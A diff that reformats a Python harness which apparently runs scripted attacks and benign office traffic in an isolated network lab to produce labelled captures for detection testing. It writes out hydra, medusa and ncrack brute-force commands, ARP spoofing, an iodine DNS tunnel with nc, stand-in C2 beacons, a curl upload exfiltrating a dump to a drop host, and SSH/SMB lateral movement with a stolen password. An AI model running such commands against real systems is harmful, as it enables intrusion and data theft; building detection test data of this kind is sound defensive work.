@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import contextlib
 import os
 import shlex
 import signal
@@ -76,8 +77,13 @@ class Recorder:
         try:
             result = subprocess.run(
                 ["ip", "netns", "exec", namespace, *command],
-                capture_output=True, text=True, timeout=timeout, check=False, cwd=self.lab.work, **kwargs,
-            )  # fmt: skip
+                capture_output=True,
+                text=True,
+                timeout=timeout,
+                check=False,
+                cwd=self.lab.work,
+                **kwargs,
+            )
             output = result.stdout + result.stderr
         except subprocess.TimeoutExpired as expired:
             output = f"{expired.stdout or ''}{expired.stderr or ''}\n[stopped by the harness after {timeout:.0f} s]"
@@ -86,7 +92,9 @@ class Recorder:
             self._record(event, command, started)
         return output
 
-    def run_for(self, host: str, command: list[str], seconds: float, event: Event, quit_input: str | None = None) -> None:
+    def run_for(
+        self, host: str, command: list[str], seconds: float, event: Event, quit_input: str | None = None
+    ) -> None:
         """A tool that runs until told to stop: let it run, then stop it the way its user would."""
         started = time.time()
         log = (self.lab.work / "tool.log").open("a")
@@ -99,10 +107,8 @@ class Recorder:
             process.stdin.flush()
         else:
             os.killpg(process.pid, signal.SIGINT)
-        try:
+        with contextlib.suppress(subprocess.TimeoutExpired):
             process.wait(20)  # arpspoof and ettercap re-ARP the victims with the true MACs before they exit
-        except subprocess.TimeoutExpired:
-            pass
         self.lab.processes.stop(process)
         self._record(event, command, started)
 
@@ -176,10 +182,32 @@ class Lab:
         url = f"https://{EXTERNAL_NAMES['updates']}/updates/latest.json"
         for index, host in enumerate(("ws1", "ws2", "ws3", "ws4", "ws5", "ws6", "admin")):
             tool = "wget" if index % 3 == 2 else "curl"
-            command = ["python3", ACTORS, "update-check", "--url", url, "--tool", tool, "--every", "60", "--jitter", "0.2"]
+            command = [
+                "python3",
+                ACTORS,
+                "update-check",
+                "--url",
+                url,
+                "--tool",
+                tool,
+                "--every",
+                "60",
+                "--jitter",
+                "0.2",
+            ]
             started.append(self._actor(host, [*command, "--seed", str(self.seed * 100 + 10 + index), *long]))
         servers = ",".join(HOSTS[h].ip for h in ("gw", "dns", "srv1", "db1"))
-        monitor = ["python3", ACTORS, "monitor", "--ping", servers, "--http", f"http://{HOSTS['srv1'].ip}/health", "--every", "30"]
+        monitor = [
+            "python3",
+            ACTORS,
+            "monitor",
+            "--ping",
+            servers,
+            "--http",
+            f"http://{HOSTS['srv1'].ip}/health",
+            "--every",
+            "30",
+        ]
         started.append(self._actor("mon", [*monitor, *long]))
         return started
 
@@ -219,19 +247,42 @@ class Lab:
         }
 
 
-BACKGROUND_HOSTS = [
-    {"ip": HOSTS[h].ip, "name": h, "does": "browses the web: HTTPS/HTTP page loads and small downloads from www.newsportal.example, shop.retailer.example, static.cdnhost.example every 3-20 s (python requests), resolving names via dns"}
-    for h in ("ws1", "ws2", "ws3", "ws4")
-] + [
-    {"ip": HOSTS[h].ip, "name": h, "does": "update check: GET https://updates.vendorsoft.example/updates/latest.json every 60 s +- 20 % (curl or wget); all these hosts poll the same server"}
-    for h in ("ws1", "ws2", "ws3", "ws4", "ws5", "ws6", "admin")
-] + [
-    {"ip": HOSTS[h].ip, "name": h, "does": "NTP client (chronyd, poll 64 s) to ntp.timeservice.example 198.51.100.123"}
-    for h in ("ws1", "ws2", "ws3")
-] + [
-    {"ip": HOSTS["mon"].ip, "name": "mon", "does": "monitoring: ICMP echo to 10.77.0.1, .2, .10, .11 and HTTP GET http://10.77.0.10/health every 30 s"},
-    {"ip": HOSTS["dns"].ip, "name": "dns", "does": "dnsmasq resolver answering the LAN"},
-]  # fmt: skip
+BACKGROUND_HOSTS = (
+    [
+        {
+            "ip": HOSTS[h].ip,
+            "name": h,
+            "does": "browses the web every 3-20 s (python requests): HTTPS/HTTP page loads and small downloads "
+            "from www.newsportal.example, shop.retailer.example, static.cdnhost.example, names resolved via dns",
+        }
+        for h in ("ws1", "ws2", "ws3", "ws4")
+    ]
+    + [
+        {
+            "ip": HOSTS[h].ip,
+            "name": h,
+            "does": "update check (curl or wget) every 60 s +- 20 %: GET "
+            "https://updates.vendorsoft.example/updates/latest.json; all these hosts poll the same server",
+        }
+        for h in ("ws1", "ws2", "ws3", "ws4", "ws5", "ws6", "admin")
+    ]
+    + [
+        {
+            "ip": HOSTS[h].ip,
+            "name": h,
+            "does": "NTP client (chronyd, poll 64 s) to ntp.timeservice.example 198.51.100.123",
+        }
+        for h in ("ws1", "ws2", "ws3")
+    ]
+    + [
+        {
+            "ip": HOSTS["mon"].ip,
+            "name": "mon",
+            "does": "monitoring: ICMP echo to 10.77.0.1, .2, .10, .11 and HTTP GET http://10.77.0.10/health every 30 s",
+        },
+        {"ip": HOSTS["dns"].ip, "name": "dns", "does": "dnsmasq resolver answering the LAN"},
+    ]
+)
 
 
 # --- helpers for the scenarios ------------------------------------------------------------------------------
@@ -248,16 +299,41 @@ def hydra_outcome(output: str) -> str:
     return "found: " + "; ".join(found) if found else "no valid password found"
 
 
-def brute_force(name: str, tool: str, host: str, port: int, service: str, command: list[str], what: str, notes: str = "", secondary: list[str] = ()) -> Scenario:
+def brute_force(
+    name: str,
+    tool: str,
+    host: str,
+    port: int,
+    service: str,
+    command: list[str],
+    what: str,
+    notes: str = "",
+    secondary: list[str] = (),
+) -> Scenario:
     def steps(lab: Lab, rec: Recorder) -> None:
-        event = Event("BRUTE_FORCE", [victim(host, port, service)], tcp_filter(ATTACKER.ip, HOSTS[host].ip, port), tool=tool, notes=notes)
+        event = Event(
+            "BRUTE_FORCE",
+            [victim(host, port, service)],
+            tcp_filter(ATTACKER.ip, HOSTS[host].ip, port),
+            tool=tool,
+            notes=notes,
+        )
         output = rec.run("attacker", command, event)
         event.outcome = hydra_outcome(output) if tool == "hydra" else _last_lines(output)
         for rule in secondary:
             rec.events.append(
-                Event(rule, event.victims, event.evidence_filter, tool=tool, command=event.command, secondary=True,
-                      notes="every guess is a cleartext login", start_wall=event.start_wall, end_wall=event.end_wall)
-            )  # fmt: skip
+                Event(
+                    rule,
+                    event.victims,
+                    event.evidence_filter,
+                    tool=tool,
+                    command=event.command,
+                    secondary=True,
+                    notes="every guess is a cleartext login",
+                    start_wall=event.start_wall,
+                    end_wall=event.end_wall,
+                )
+            )
 
     return Scenario(name, "attack", what, steps)
 
@@ -267,11 +343,24 @@ def _last_lines(output: str, count: int = 3) -> str:
     return " | ".join(lines[-count:])[:400]
 
 
-def scan(name: str, rule: str, command: list[str], target: str | None, what: str, tool: str = "nmap", snaplen: int = 0, evidence: str | None = None, notes: str = "", spoofed: bool = False) -> Scenario:
+def scan(
+    name: str,
+    rule: str,
+    command: list[str],
+    target: str | None,
+    what: str,
+    tool: str = "nmap",
+    snaplen: int = 0,
+    evidence: str | None = None,
+    notes: str = "",
+    spoofed: bool = False,
+) -> Scenario:
     def steps(lab: Lab, rec: Recorder) -> None:
         victims = [victim(target, None, "any")] if target else [{"ip": "10.77.0.0/24", "port": None, "service": "any"}]
         default = f"ip.src=={ATTACKER.ip} && ip.dst=={HOSTS[target].ip}" if target else f"eth.src=={ATTACKER.mac}"
-        event = Event(rule, victims, evidence or default, tool=tool, notes=notes, attacker_ip=None if spoofed else ATTACKER.ip)
+        event = Event(
+            rule, victims, evidence or default, tool=tool, notes=notes, attacker_ip=None if spoofed else ATTACKER.ip
+        )
         event.outcome = _last_lines(rec.run("attacker", command, event))
 
     return Scenario(name, "attack", what, steps, snaplen=snaplen)
@@ -282,20 +371,56 @@ SRV1, DB1 = HOSTS["srv1"].ip, HOSTS["db1"].ip
 
 
 def ssh_success(lab: Lab, rec: Recorder) -> None:
-    command = ["hydra", "-I", "-l", "carol", "-P", str(WORDS / "passwords-with-hit.txt"), "-t", "4", "-f", f"ssh://{SRV1}:2222"]
-    event = Event("BRUTE_FORCE", [victim("srv1", 2222, "ssh")], tcp_filter(ATTACKER.ip, SRV1, 2222), tool="hydra",
-                  notes="carol's password is the 17th guess; hydra stops at the first hit (-f), then the attacker logs in with it")  # fmt: skip
+    command = [
+        "hydra",
+        "-I",
+        "-l",
+        "carol",
+        "-P",
+        str(WORDS / "passwords-with-hit.txt"),
+        "-t",
+        "4",
+        "-f",
+        f"ssh://{SRV1}:2222",
+    ]
+    event = Event(
+        "BRUTE_FORCE",
+        [victim("srv1", 2222, "ssh")],
+        tcp_filter(ATTACKER.ip, SRV1, 2222),
+        tool="hydra",
+        notes="carol's password is the 17th guess; hydra stops at the first hit (-f), then the attacker logs in with "
+        "it",
+    )
     event.outcome = hydra_outcome(rec.run("attacker", command, event))
     time.sleep(3)
-    login = ["sshpass", "-p", USERS["carol"], "ssh", *SSH_CLIENT_OPTIONS, "-p", "2222", f"carol@{SRV1}", "id; uname -a; cat /etc/passwd; ls -la ~"]
+    login = [
+        "sshpass",
+        "-p",
+        USERS["carol"],
+        "ssh",
+        *SSH_CLIENT_OPTIONS,
+        "-p",
+        "2222",
+        f"carol@{SRV1}",
+        "id; uname -a; cat /etc/passwd; ls -la ~",
+    ]
     rec.run("attacker", login)
     event.notes += f"; the login with the found password: {shlex.join(login)}"
 
 
-def cleartext(name: str, host: str, port: int, service: str, command: list[str], what: str, client: str = "ws2", notes: str = "") -> Scenario:
+def cleartext(
+    name: str, host: str, port: int, service: str, command: list[str], what: str, client: str = "ws2", notes: str = ""
+) -> Scenario:
     def steps(lab: Lab, rec: Recorder) -> None:
-        event = Event("CLEARTEXT_CREDENTIALS", [victim(host, port, service)], tcp_filter(HOSTS[client].ip, HOSTS[host].ip, port),
-                      tool=command[0], attacker_ip=HOSTS[client].ip, attacker_mac=HOSTS[client].mac, notes=notes)  # fmt: skip
+        event = Event(
+            "CLEARTEXT_CREDENTIALS",
+            [victim(host, port, service)],
+            tcp_filter(HOSTS[client].ip, HOSTS[host].ip, port),
+            tool=command[0],
+            attacker_ip=HOSTS[client].ip,
+            attacker_mac=HOSTS[client].mac,
+            notes=notes,
+        )
         event.outcome = _last_lines(rec.run(client, command, event))
 
     return Scenario(name, "attack", what, steps)
@@ -307,7 +432,7 @@ spawn telnet {SRV1}
 expect "login:"
 send "bob\\r"
 expect "assword:"
-send "{USERS['bob']}\\r"
+send "{USERS["bob"]}\\r"
 expect -re {{[$#] $}}
 send "uptime; ls -la\\r"
 expect -re {{[$#] $}}
@@ -322,17 +447,44 @@ def arp_spoof(name: str, tool: str, command: list[str], quit_input: str | None, 
     def steps(lab: Lab, rec: Recorder) -> None:
         topology.run("sysctl", "-qw", "net.ipv4.ip_forward=1", namespace=ns("attacker"))
         sites = ",".join(EXTERNAL_NAMES[k] for k in ("www1", "www2", "cdn"))
-        rec.background("ws2", ["python3", ACTORS, "browse", "--sites", sites, "--min-gap", "0.5", "--max-gap", "2", "--duration", "600", "--seed", "5"])
+        rec.background(
+            "ws2",
+            [
+                "python3",
+                ACTORS,
+                "browse",
+                "--sites",
+                sites,
+                "--min-gap",
+                "0.5",
+                "--max-gap",
+                "2",
+                "--duration",
+                "600",
+                "--seed",
+                "5",
+            ],
+        )
         for address in (target.ip, gateway.ip):  # the attacker has met both, as after a look at the LAN
             rec.run("attacker", ["ping", "-c", "1", "-W", "1", address])
         time.sleep(5)
-        evidence = f"arp && arp.src.hw_mac=={ATTACKER.mac} && (arp.src.proto_ipv4=={gateway.ip} || arp.src.proto_ipv4=={target.ip})"
-        event = Event("ARP_SPOOFING", [{"ip": target.ip, "port": None, "service": "arp", "spoofed_ip": gateway.ip}, {"ip": gateway.ip, "port": None, "service": "arp", "spoofed_ip": target.ip}],
-                      evidence, tool=tool, notes=notes)  # fmt: skip
+        spoofed = f"(arp.src.proto_ipv4=={gateway.ip} || arp.src.proto_ipv4=={target.ip})"
+        evidence = f"arp && arp.src.hw_mac=={ATTACKER.mac} && {spoofed}"
+        event = Event(
+            "ARP_SPOOFING",
+            [
+                {"ip": target.ip, "port": None, "service": "arp", "spoofed_ip": gateway.ip},
+                {"ip": gateway.ip, "port": None, "service": "arp", "spoofed_ip": target.ip},
+            ],
+            evidence,
+            tool=tool,
+            notes=notes,
+        )
         rec.run_for("attacker", command, 45, event, quit_input)
         event.outcome = (
             f"{target.ip} sent its off-subnet traffic to the attacker's MAC {ATTACKER.mac}, which forwarded it "
-            f"to the router (evidence of the interception: eth.dst=={ATTACKER.mac} && ip.src=={target.ip} && !(ip.dst==10.77.0.0/24))"
+            f"to the router (evidence of the interception: eth.dst=={ATTACKER.mac} && ip.src=={target.ip} && "
+            f"!(ip.dst==10.77.0.0/24))"
         )
         time.sleep(5)
 
@@ -344,12 +496,19 @@ def iodine_tunnel(lab: Lab, rec: Recorder) -> None:
     payload = lab.work / "quarterly-report.xlsx"
     payload.write_bytes(os.urandom(120_000))
     rec.background("inet", ["sh", "-c", "nc -l 10.99.0.1 5555 > /dev/null"])
-    event = Event("DNS_TUNNELING", [{"ip": HOSTS["dns"].ip, "port": 53, "service": "dns (resolver relays to 203.0.113.53)"}],
-                  f"dns && ip.addr=={HOSTS[client].ip} && dns.qry.name contains \"{TUNNEL_DOMAIN}\"",
-                  tool="iodine", attacker_ip=HOSTS[client].ip, attacker_mac=HOSTS[client].mac)  # fmt: skip
+    event = Event(
+        "DNS_TUNNELING",
+        [{"ip": HOSTS["dns"].ip, "port": 53, "service": "dns (resolver relays to 203.0.113.53)"}],
+        f'dns && ip.addr=={HOSTS[client].ip} && dns.qry.name contains "{TUNNEL_DOMAIN}"',
+        tool="iodine",
+        attacker_ip=HOSTS[client].ip,
+        attacker_mac=HOSTS[client].mac,
+    )
     command = ["iodine", "-f", "-r", "-P", TUNNEL_PASSWORD, HOSTS["dns"].ip, TUNNEL_DOMAIN]
     started = time.time()
-    tunnel = lab.processes.start("iodine", command, ns(client), stdout=(lab.work / "tool.log").open("a"), stderr=subprocess.STDOUT)
+    tunnel = lab.processes.start(
+        "iodine", command, ns(client), stdout=(lab.work / "tool.log").open("a"), stderr=subprocess.STDOUT
+    )
     deadline = time.time() + 90
     while "10.99.0." not in topology.run("ip", "addr", "show", namespace=ns(client), check=False).stdout:
         if time.time() > deadline:
@@ -359,7 +518,10 @@ def iodine_tunnel(lab: Lab, rec: Recorder) -> None:
     lab.processes.stop(tunnel)
     event.command = shlex.join(command) + f"; then through the tunnel: nc -N 10.99.0.1 5555 < {payload.name}"
     event.outcome = f"{payload.stat().st_size} bytes carried through the tunnel ({sent.strip()[:60]})"
-    event.notes = "queries go to the LAN resolver dnsmasq, which forwards the tunnel domain to iodined on 203.0.113.53; the mirror sees both legs"
+    event.notes = (
+        "queries go to the LAN resolver dnsmasq, which forwards the tunnel domain to iodined on 203.0.113.53; "
+        "the mirror sees both legs"
+    )
     event.start_wall, event.end_wall = started, time.time()
     rec.events.append(event)
 
@@ -369,21 +531,70 @@ def beacon(name: str, sleep: float, jitter: float, minutes: float, scheme: str, 
     port = 443 if scheme == "https" else 80
 
     def steps(lab: Lab, rec: Recorder) -> None:
-        command = ["python3", ACTORS, "beacon", "--url", url, "--sleep", str(sleep), "--jitter", str(jitter), "--duration", str(minutes * 60), "--seed", "3"]
-        event = Event("C2_BEACON", [{"ip": EXTERNAL["c2"], "port": port, "service": scheme}], f"ip.addr=={HOSTS[host].ip} && ip.addr=={EXTERNAL['c2']}",
-                      tool="tests/lab/actors.py beacon (stand-in implant, python requests)", attacker_ip=HOSTS[host].ip, attacker_mac=HOSTS[host].mac,
-                      notes=f"stand-in for an HTTP implant: check-in every {sleep} s shortened by up to {jitter:.0%} (Cobalt Strike jitter), a new TCP connection per check-in, a 4-24 KB task result POSTed after ~15 % of check-ins; the name is resolved through dns each time")  # fmt: skip
+        command = [
+            "python3",
+            ACTORS,
+            "beacon",
+            "--url",
+            url,
+            "--sleep",
+            str(sleep),
+            "--jitter",
+            str(jitter),
+            "--duration",
+            str(minutes * 60),
+            "--seed",
+            "3",
+        ]
+        event = Event(
+            "C2_BEACON",
+            [{"ip": EXTERNAL["c2"], "port": port, "service": scheme}],
+            f"ip.addr=={HOSTS[host].ip} && ip.addr=={EXTERNAL['c2']}",
+            tool="tests/lab/actors.py beacon (stand-in implant, python requests)",
+            attacker_ip=HOSTS[host].ip,
+            attacker_mac=HOSTS[host].mac,
+            notes=f"stand-in for an HTTP implant: check-in every {sleep} s shortened by up to {jitter:.0%} (Cobalt "
+            f"Strike jitter), a new TCP connection per check-in, a 4-24 KB task result POSTed after ~15 % of "
+            f"check-ins; the name is resolved through dns each time",
+        )
         rec.run(host, command, event, timeout=minutes * 60 + 60)
 
-    return Scenario(name, "attack", f"{host} beacons to {EXTERNAL['c2']} over {scheme.upper()} every {sleep} s, jitter {jitter:.0%}, for {minutes} min (stand-in implant)", steps)
+    return Scenario(
+        name,
+        "attack",
+        f"{host} beacons to {EXTERNAL['c2']} over {scheme.upper()} every {sleep} s, jitter {jitter:.0%}, for "
+        f"{minutes} min (stand-in implant)",
+        steps,
+    )
 
 
 def ws_beacon(lab: Lab, rec: Recorder) -> None:
     host = "ws6"
-    command = ["python3", ACTORS, "ws-beacon", "--url", f"wss://{EXTERNAL_NAMES['c2ws']}/", "--sleep", "5", "--jitter", "0.1", "--duration", "180", "--seed", "4"]
-    event = Event("C2_BEACON", [{"ip": EXTERNAL["c2ws"], "port": 443, "service": "websocket over TLS"}], f"ip.addr=={HOSTS[host].ip} && ip.addr=={EXTERNAL['c2ws']}",
-                  tool="tests/lab/actors.py ws-beacon (stand-in implant, python websockets)", attacker_ip=HOSTS[host].ip, attacker_mac=HOSTS[host].mac,
-                  notes="one long-lived TLS WebSocket connection for 3 min; inside it a check-in every 5 s shortened by up to 10 %, occasional 8-48 KB results: periodic bursts within a single flow")  # fmt: skip
+    command = [
+        "python3",
+        ACTORS,
+        "ws-beacon",
+        "--url",
+        f"wss://{EXTERNAL_NAMES['c2ws']}/",
+        "--sleep",
+        "5",
+        "--jitter",
+        "0.1",
+        "--duration",
+        "180",
+        "--seed",
+        "4",
+    ]
+    event = Event(
+        "C2_BEACON",
+        [{"ip": EXTERNAL["c2ws"], "port": 443, "service": "websocket over TLS"}],
+        f"ip.addr=={HOSTS[host].ip} && ip.addr=={EXTERNAL['c2ws']}",
+        tool="tests/lab/actors.py ws-beacon (stand-in implant, python websockets)",
+        attacker_ip=HOSTS[host].ip,
+        attacker_mac=HOSTS[host].mac,
+        notes="one long-lived TLS WebSocket connection for 3 min; inside it a check-in every 5 s shortened by up to "
+        "10 %, occasional 8-48 KB results: periodic bursts within a single flow",
+    )
     rec.run(host, command, event, timeout=300)
 
 
@@ -393,9 +604,16 @@ def exfiltration(lab: Lab, rec: Recorder) -> None:
     _random_file(payload, size_mb)
     url = f"https://{EXTERNAL_NAMES['drop']}/upload/crm-dump.tar.gz"
     command = ["curl", "-sk", "-H", "Expect:", "-T", str(payload), url]
-    event = Event("DATA_EXFILTRATION", [{"ip": EXTERNAL["drop"], "port": 443, "service": "https (nginx WebDAV PUT)"}], f"ip.addr=={HOSTS[host].ip} && ip.addr=={EXTERNAL['drop']}",
-                  tool="curl", attacker_ip=HOSTS[host].ip, attacker_mac=HOSTS[host].mac,
-                  outcome=f"{size_mb} MiB of random data uploaded", notes="one HTTPS PUT of 100 MiB of random data to a host the site never talked to")  # fmt: skip
+    event = Event(
+        "DATA_EXFILTRATION",
+        [{"ip": EXTERNAL["drop"], "port": 443, "service": "https (nginx WebDAV PUT)"}],
+        f"ip.addr=={HOSTS[host].ip} && ip.addr=={EXTERNAL['drop']}",
+        tool="curl",
+        attacker_ip=HOSTS[host].ip,
+        attacker_mac=HOSTS[host].mac,
+        outcome=f"{size_mb} MiB of random data uploaded",
+        notes="one HTTPS PUT of 100 MiB of random data to a host the site never talked to",
+    )
     rec.run(host, command, event)
     payload.unlink()
     for stored in (lab.work / "recv").rglob("*.tar.gz"):
@@ -413,17 +631,41 @@ def lateral_movement(lab: Lab, rec: Recorder) -> None:
     targets = ["srv1", "db1", "ws1", "ws2", "ws4", "ws5", "ws6", "admin", "mon"]
     password = USERS["bob"]
     for target in targets:
-        rec.run(host, ["sshpass", "-p", password, "ssh", *SSH_CLIENT_OPTIONS, "-o", "ConnectTimeout=5", f"bob@{HOSTS[target].ip}", "hostname; id; ls ~; cat /etc/os-release | head -2"])
+        rec.run(
+            host,
+            [
+                "sshpass",
+                "-p",
+                password,
+                "ssh",
+                *SSH_CLIENT_OPTIONS,
+                "-o",
+                "ConnectTimeout=5",
+                f"bob@{HOSTS[target].ip}",
+                "hostname; id; ls ~; cat /etc/os-release | head -2",
+            ],
+        )
         time.sleep(1.5)
     rec.run(host, ["smbclient", "-L", f"//{SRV1}", "-U", f"{SMB_USER}%{password}"])
-    rec.run(host, ["smbclient", f"//{SRV1}/finance", "-U", f"{SMB_USER}%{password}", "-c", "ls; get budget-2026.xlsx /dev/null"])
+    rec.run(
+        host,
+        ["smbclient", f"//{SRV1}/finance", "-U", f"{SMB_USER}%{password}", "-c", "ls; get budget-2026.xlsx /dev/null"],
+    )
     started = rec.events[-1].end_wall if rec.events else time.time()
-    event = Event("LATERAL_MOVEMENT", [victim(t, 22, "ssh") for t in targets] + [victim("srv1", 445, "smb")],
-                  f"ip.src=={HOSTS[host].ip} && ip.dst==10.77.0.0/24 && (tcp.dstport==22 || tcp.dstport==445) && tcp.flags.syn==1 && tcp.flags.ack==0",
-                  tool="OpenSSH ssh + sshpass, smbclient", attacker_ip=HOSTS[host].ip, attacker_mac=HOSTS[host].mac,
-                  command=f"for t in {' '.join(HOSTS[t].ip for t in targets)}; do sshpass -p *** ssh bob@$t 'hostname; id; ...'; done; smbclient -L //{SRV1} -U bob; smbclient //{SRV1}/finance -c 'ls; get budget-2026.xlsx'",
-                  outcome="a workstation that never does so logs in over SSH to 9 internal hosts with a stolen password, then lists and reads an SMB share",
-                  notes="ws3 does not use SSH or SMB in any other capture")  # fmt: skip
+    event = Event(
+        "LATERAL_MOVEMENT",
+        [victim(t, 22, "ssh") for t in targets] + [victim("srv1", 445, "smb")],
+        f"ip.src=={HOSTS[host].ip} && ip.dst==10.77.0.0/24 && (tcp.dstport==22 || tcp.dstport==445) && "
+        f"tcp.flags.syn==1 && tcp.flags.ack==0",
+        tool="OpenSSH ssh + sshpass, smbclient",
+        attacker_ip=HOSTS[host].ip,
+        attacker_mac=HOSTS[host].mac,
+        command=f"for t in {' '.join(HOSTS[t].ip for t in targets)}; do sshpass -p *** ssh bob@$t 'hostname; id; "
+        f"...'; done; smbclient -L //{SRV1} -U bob; smbclient //{SRV1}/finance -c 'ls; get budget-2026.xlsx'",
+        outcome="a workstation that never does so logs in over SSH to 9 internal hosts with a stolen password, then "
+        "lists and reads an SMB share",
+        notes="ws3 does not use SSH or SMB in any other capture",
+    )
     event.start_wall, event.end_wall = started, time.time()
     rec.events.append(event)
 
@@ -435,7 +677,7 @@ spawn ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyA
 expect "assword:"
 send "Corp!Admin-2178\\r"
 expect "assword:"
-send "{USERS['alice']}\\r"
+send "{USERS["alice"]}\\r"
 expect -re {{[$#] $}}
 send "df -h; uptime\\r"
 expect -re {{[$#] $}}
@@ -461,7 +703,20 @@ def admin_work(lab: Lab, rec: Recorder) -> None:
     time.sleep(3)
     rec.run("admin", ["scp", *SSH_CLIENT_OPTIONS, "-i", key, f"alice@{SRV1}:/etc/os-release", "/dev/null"])
     time.sleep(4)
-    rec.run("admin", ["sshpass", "-p", USERS["alice"], "ssh", *SSH_CLIENT_OPTIONS, "-p", "2222", f"alice@{SRV1}", "sudo -n true 2>/dev/null; tail -n 50 /etc/services"])
+    rec.run(
+        "admin",
+        [
+            "sshpass",
+            "-p",
+            USERS["alice"],
+            "ssh",
+            *SSH_CLIENT_OPTIONS,
+            "-p",
+            "2222",
+            f"alice@{SRV1}",
+            "sudo -n true 2>/dev/null; tail -n 50 /etc/services",
+        ],
+    )
     time.sleep(4)
     rec.run("admin", ["ssh", *SSH_CLIENT_OPTIONS, "-i", key, f"alice@{DB1}", "uptime; free -m"])
 
@@ -470,21 +725,51 @@ def ansible_fanout(lab: Lab, rec: Recorder) -> None:
     targets = ["gw", "mon", "srv1", "db1", "ws1", "ws2", "ws3", "ws4", "ws5", "ws6"]
     inventory = lab.work / "inventory.ini"
     inventory.write_text("[office]\n" + "".join(f"{t} ansible_host={HOSTS[t].ip}\n" for t in targets))
-    env = {**os.environ, "ANSIBLE_HOST_KEY_CHECKING": "False", "ANSIBLE_PYTHON_INTERPRETER": "/usr/bin/python3",
-           "ANSIBLE_SSH_CONTROL_PATH_DIR": str(lab.work / "ansible-cp"), "ANSIBLE_LOCAL_TEMP": str(lab.work / "ansible-tmp")}  # fmt: skip
-    base = ["ansible", "office", "-i", str(inventory), "-u", "alice", "--private-key", str(lab.work / "keys" / "alice"), "-f", "5"]
+    env = {
+        **os.environ,
+        "ANSIBLE_HOST_KEY_CHECKING": "False",
+        "ANSIBLE_PYTHON_INTERPRETER": "/usr/bin/python3",
+        "ANSIBLE_SSH_CONTROL_PATH_DIR": str(lab.work / "ansible-cp"),
+        "ANSIBLE_LOCAL_TEMP": str(lab.work / "ansible-tmp"),
+    }
+    base = [
+        "ansible",
+        "office",
+        "-i",
+        str(inventory),
+        "-u",
+        "alice",
+        "--private-key",
+        str(lab.work / "keys" / "alice"),
+        "-f",
+        "5",
+    ]
     rec.run("admin", [*base, "-m", "setup", "-a", "gather_subset=min"], env=env)
     time.sleep(5)
     rec.run("admin", [*base, "-m", "shell", "-a", "uptime; df -h /"], env=env)
     time.sleep(5)
-    rec.run("admin", [*base, "-m", "copy", "-a", "content='ntp {EXTERNAL['ntp']}\n' dest=/tmp/ansible-managed.conf"], env=env)
+    rec.run(
+        "admin",
+        [*base, "-m", "copy", "-a", "content='ntp {EXTERNAL['ntp']}\n' dest=/tmp/ansible-managed.conf"],
+        env=env,
+    )
 
 
 def backup_upload(lab: Lab, rec: Recorder) -> None:
     size_mb = 100
     archive = lab.work / "srv1-nightly.tar.gz"
     _random_file(archive, size_mb)
-    rec.run("srv1", ["scp", *SSH_CLIENT_OPTIONS, "-i", str(lab.work / "keys" / "svc_backup"), str(archive), f"svc_backup@{EXTERNAL['backup']}:/tmp/nxlab-backup.tar.gz"])
+    rec.run(
+        "srv1",
+        [
+            "scp",
+            *SSH_CLIENT_OPTIONS,
+            "-i",
+            str(lab.work / "keys" / "svc_backup"),
+            str(archive),
+            f"svc_backup@{EXTERNAL['backup']}:/tmp/nxlab-backup.tar.gz",
+        ],
+    )
     archive.unlink()
     Path("/tmp/nxlab-backup.tar.gz").unlink(missing_ok=True)
 
@@ -496,14 +781,26 @@ def office_day(lab: Lab, rec: Recorder) -> None:
     while time.time() < until:
         host = ("ws5", "ws6", "admin")[step % 3]
         if step % 4 == 0:
-            rec.run(host, ["wget", "-q", "-O", "/dev/null", "--no-check-certificate", f"https://{EXTERNAL_NAMES['cdn']}/downloads/tool-2mb.bin"])
-        rec.run(host, ["getent", "hosts", f"srv1.corp.lab"])
+            rec.run(
+                host,
+                [
+                    "wget",
+                    "-q",
+                    "-O",
+                    "/dev/null",
+                    "--no-check-certificate",
+                    f"https://{EXTERNAL_NAMES['cdn']}/downloads/tool-2mb.bin",
+                ],
+            )
+        rec.run(host, ["getent", "hosts", "srv1.corp.lab"])
         rec.run(host, ["curl", "-s", "-o", "/dev/null", f"http://intranet.corp.lab/page{step % 20 + 1}.html"])
         step += 1
         time.sleep(25)
 
 
-def benign(name: str, what: str, steps: Callable[[Lab, Recorder], None], hosts: list[dict], snaplen: int = 0) -> Scenario:
+def benign(
+    name: str, what: str, steps: Callable[[Lab, Recorder], None], hosts: list[dict], snaplen: int = 0
+) -> Scenario:
     return Scenario(name, "benign", what, steps, snaplen=snaplen, extra_hosts=hosts)
 
 
@@ -513,73 +810,364 @@ def host_doing(host: str, does: str) -> dict:
 
 # --- the list ---------------------------------------------------------------------------------------------
 SCENARIOS: list[Scenario] = [
-    brute_force("ssh-bruteforce-hydra-22", "hydra", "srv1", 22, "ssh", ["hydra", "-I", "-L", SSH_USERS, "-P", SSH_WORDS, "-t", "4", "-I", f"ssh://{SRV1}:22"],
-                "hydra guesses 4 users x 25 passwords against OpenSSH on 22 (srv1)"),
-    brute_force("ssh-bruteforce-hydra-2222", "hydra", "srv1", 2222, "ssh", ["hydra", "-I", "-L", SSH_USERS, "-P", SSH_WORDS, "-t", "4", "-I", f"ssh://{SRV1}:2222"],
-                "hydra guesses 4 users x 25 passwords against OpenSSH on the non-standard port 2222 (srv1)"),
-    brute_force("ssh-bruteforce-medusa-22", "medusa", "db1", 22, "ssh", ["medusa", "-h", DB1, "-U", SSH_USERS, "-P", SSH_WORDS, "-M", "ssh", "-t", "4"],
-                "medusa guesses 4 users x 25 passwords against OpenSSH on 22 (db1)"),
-    brute_force("ssh-bruteforce-ncrack-2222", "ncrack", "srv1", 2222, "ssh", ["ncrack", "-U", SSH_USERS, "-P", SSH_WORDS, f"ssh://{SRV1}:2222"],
-                "ncrack guesses 4 users x 25 passwords against OpenSSH on 2222 (srv1), several guesses per connection"),
-    Scenario("ssh-bruteforce-hydra-success", "attack", "hydra guesses carol's password on srv1:2222 (hit at the 17th guess), then logs in with it", ssh_success),
-    brute_force("ftp-bruteforce-hydra-2121", "hydra", "srv1", 2121, "ftp", ["hydra", "-I", "-l", "bob", "-P", SSH_WORDS, "-t", "4", f"ftp://{SRV1}:2121"],
-                "hydra guesses 25 passwords for bob against vsftpd on the non-standard port 2121", secondary=["CLEARTEXT_CREDENTIALS"]),
-    brute_force("mysql-bruteforce-ncrack-3306", "ncrack", "db1", 3306, "mysql", ["ncrack", "--user", DB_USER, "-P", SSH_WORDS, f"mysql://{DB1}:3306"],
-                "ncrack guesses 25 passwords for the MariaDB user app on 3306",
